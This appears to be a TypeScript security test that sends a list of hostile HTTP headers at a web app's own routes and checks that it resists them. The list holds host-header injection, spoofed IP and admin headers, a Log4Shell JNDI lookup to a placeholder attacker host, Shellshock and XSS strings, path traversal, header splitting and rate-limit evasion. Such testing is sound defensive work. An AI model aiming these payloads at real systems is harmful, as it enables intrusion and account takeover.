import { watchTables } from '../../api/digest.ts'
import { nameOf } from '../../api/every-example.ts'
import { sceneFor } from '../../api/scene.ts'
import { EVIL, SPLIT_HEADER } from './answer-rules.ts'
import { screenPaths } from './screen-paths.ts'
import { each, forgetLimits, OWN_HOURS, type Target } from './target.ts'

const OTHER_METHOD = ['x-http-method-override', 'x-http-method', 'x-method-override', 'x-original-method', '_method']
const OTHER_PATH = [
  'x-original-url',
  'x-rewrite-url',
  'x-override-url',
  'x-forwarded-uri',
  'x-forwarded-path',
  'x-forwarded-prefix',
]
/** What would lead visitors elsewhere, or make somebody of nobody, where a program believes it. */
const BELIEVED: Record<string, string>[] = [
  { host: EVIL },
  { host: `127.0.0.1:1@${EVIL}` },
  { host: `${EVIL}:80/` },
  { 'x-forwarded-host': EVIL },
  {
    'x-host': EVIL,
    'x-forwarded-server': EVIL,
    'x-http-host-override': EVIL,
    forwarded: `for=1.1.1.1;host=${EVIL};proto=https`,
  },
  { 'x-forwarded-proto': 'https', 'x-forwarded-port': '1', 'x-forwarded-ssl': 'on', 'front-end-https': 'on' },
  { 'x-forwarded-proto': `javascript:alert(1)//` },
  { 'x-forwarded-for': `127.0.0.1, ${EVIL}, '"><script>` },
  {
    'x-real-ip': '127.0.0.1',
    'client-ip': '127.0.0.1',
    'cf-connecting-ip': '127.0.0.1',
    'true-client-ip': '127.0.0.1',
  },
  { 'x-user': 'admin', 'x-remote-user': 'admin', remote_user: 'admin', 'x-auth-user': '1', 'x-user-id': '1' },
  { authorization: 'Bearer null' },
  { authorization: `Bearer ${'a'.repeat(4000)}` },
  { authorization: 'Basic YWRtaW46YWRtaW4=' },
  { origin: `https://${EVIL}`, referer: `https://${EVIL}/` },
  { origin: 'null' },
  { range: 'bytes=0-0,1-1,2-2,-1' },
  { range: `bytes=${Array.from({ length: 300 }, (_, n) => `${n}-`).join()}` },
  { 'if-none-match': '*', 'if-match': '*', 'if-range': 'x' },
  { 'if-modified-since': '99999' },
  { 'accept-encoding': 'gzip;q=NaN, br;q=-1, identity;q=0, *;q=0' },
  { 'accept-language': '../../../../etc/passwd' },
  { accept: '*/*;q=0, text/../html' },
  { 'content-type': 'multipart/form-data; boundary=' },
  { cookie: 'smysl_session=; smysl_session=a; smysl_session' },
  { cookie: `smysl_session=${'g'.repeat(43)}; XSRF-TOKEN=%00%0d%0a${SPLIT_HEADER}: 1` },
  { cookie: '__proto__=1; constructor=1; =; ;;; a=%E0%A4%A; cookie_choice=%7B%22__proto__%22:1%7D; theme="><script>' },
  { cookie: `a=${'b'.repeat(14_000)}` },
  { 'user-agent': `() { :;}; \${jndi:ldap://${EVIL}/a} <script>alert(1)</script>`.repeat(5) },
  { 'x-request-id': '../../<script>' },
  { expect: '100-continue' },
  { upgrade: 'h2c', connection: 'upgrade, http2-settings', 'http2-settings': 'AAMAAABkAAQAAP__' },
  { connection: 'close, cookie, x-forwarded-for' },
  { te: 'trailers, deflate;q=0.5', via: '1.0 fred', 'max-forwards': '0' },
  { purpose: 'prefetch', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors' },
]

/** No header makes somebody of nobody, another call of this one, or another site of ours; what is kept for many stays clean. */
export async function attackHeaders(target: Target): Promise<string> {
  const { wire, direct, routes, ledger } = target
  const pages = screenPaths()
  const open = routes
    .filter(({ guard, method }) => guard === 'anyone' && method === 'GET')
    .map(({ path }) => path.replace(/:\w+/g, '1'))
  const guarded = routes
    .filter(({ guard, method }) => guard !== 'anyone' && method === 'GET')
    .map(({ path }) => path.replace(/:\w+/g, '1'))
  for (const [turn, headers] of BELIEVED.entries()) {
    // A page takes as long to draw as twenty calls: each meets a quarter of the headers, each time another.
    const some = pages.filter((_, index) => (index + turn) % 4 === 0)
    await each([...some, ...open, ...guarded], 8, async (path) => {
      const way = 'x-forwarded-for' in headers ? direct : wire
      const hit = await way.shoot({
        path,
        headers: { accept: path.startsWith('/api') ? 'application/json' : 'text/html', ...headers },
      })
      const isOut = !guarded.includes(path) || hit.status >= 300
      const what = () =>
        `${path} with ${JSON.stringify(headers).slice(0, 150)} → ${hit.status} ${hit.text.slice(0, 150)}`
      ledger.holds('no header signs anybody in', isOut, what)
      if (hit.status < 400) ledger.holds('no host of the visitor’s choice in an answer', !hit.text.includes(EVIL), what)
    })
    await forgetLimits(target)
  }
  for (const path of pages) {
    const hit = await wire.shoot({ path, headers: { accept: 'text/html' } })
    ledger.holds('a page that is kept for all has nothing of one visitor', !hit.text.includes(EVIL), () => path)
  }
  await anotherCall(target)
  await nobodyCounts(target)
  return `${BELIEVED.length} sets of headers at ${pages.length + open.length + guarded.length} addresses`
}

/** Asked by GET, a call stays itself whatever method or path a header names. */
async function anotherCall(target: Target) {
  const { world, routes, ledger } = target
  const writing = routes.filter(({ method, guard }) => method !== 'GET' && guard !== 'another-server')
  const changes = await watchTables(world)
  const { caller } = await sceneFor(world, 'admin')
  await changes()
  await each(writing, 4, async (row) => {
    const { path } = row.path.includes(':') ? { path: row.path.replace(/:\w+/g, '1') } : row
    const methods = Object.fromEntries(OTHER_METHOD.map((name) => [name, row.method]))
    const paths = Object.fromEntries(OTHER_PATH.map((name) => [name, path]))
    await caller.ask(path, { headers: methods })
    await caller.ask(`${path}?_method=${row.method}&method=${row.method}`, { headers: methods })
    await caller.ask('/api/session', { headers: { ...methods, ...paths } })
  })
  const changed = (await changes()).filter((name) => !OWN_HOURS.test(name) && !/^(audit_log|sessions)/.test(name))
  ledger.holds('a GET changes nothing, whatever it says of itself', changed.length === 0, () => changed.join(', '))
  for (const row of routes.filter(({ guard }) => guard !== 'anyone' && guard !== 'another-server').slice(0, 20)) {
    const { status } = await target.wire.shoot({
      path: '/api/health',
      headers: Object.fromEntries(OTHER_PATH.map((name) => [name, row.path])),
    })
    ledger.holds('a header names no other path', status === 200, () => `${nameOf(row)} → ${status}`)
  }
}

/** A limit counts the visitor whom the connection shows, however many addresses they invent. */
async function nobodyCounts(target: Target) {
  await forgetLimits(target)
  const answers: number[] = []
  for (let turn = 0; turn < 60 && answers.at(-1) !== 429; turn += 1) {
    const invented = {
      'x-forwarded-for': `203.0.113.${turn}`,
      'x-real-ip': `203.0.113.${turn}`,
      forwarded: `for=203.0.113.${turn}`,
    }
    const { status } = await target.direct.shoot({
      method: 'POST',
      path: '/api/track-visitor',
      headers: {
        'content-type': 'application/json',
        'user-agent': 'Mozilla/5.0 (Windows NT 10.0) Chrome/140',
        ...invented,
        ...(await tokenOf(target)),
      },
      body: JSON.stringify({ page_url: '/', visitor_id: 'visitor_1760000000000_abcdef', referrer: '' }),
    })
    answers.push(status)
  }
  target.ledger.holds(
    'invented addresses get around no limit',
    answers.includes(429),
    () => `60 of ${new Set(answers).size} kinds: ${[...new Set(answers)].join()}`,
  )
  await forgetLimits(target)
}

async function tokenOf({ world }: Target) {
  const { csrf, token } = (await sceneFor(world, 'guest')).caller
  return { 'x-xsrf-token': csrf, cookie: `smysl_session=${token}` }
}
